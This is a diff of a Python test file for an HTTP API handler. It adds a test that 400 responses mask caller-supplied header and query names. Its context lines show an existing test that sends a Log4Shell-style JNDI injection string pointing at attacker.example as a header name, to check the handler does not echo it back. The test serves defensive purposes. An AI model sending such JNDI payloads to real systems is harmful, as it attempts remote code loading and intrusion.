@@ -67,6 +67,15 @@ def test_a_malformed_http_event_is_a_400_that_says_why(
     assert reason in logged(caplog, "Rejected malformed HTTP API event")["reason"]
 
 
+@pytest.mark.parametrize("field", ["headers", "queryStringParameters"])
+def test_a_400_masks_even_ordinary_looking_caller_names(invoke: Invoke, field: str) -> None:
+    event = load_event("health")
+    event[field] = {"Authorization": 1}
+    message = json.loads(invoke(event)["body"])["message"]
+    assert f"{field}.*: Input should be a valid string" in message
+    assert "Authorization" not in message
+
+
 def test_a_400_never_echoes_caller_chosen_names_or_values(invoke: Invoke) -> None:
     event = load_event("health")
     event["headers"]["${jndi:ldap://attacker.example/a}"] = ["not", "a", "string"]
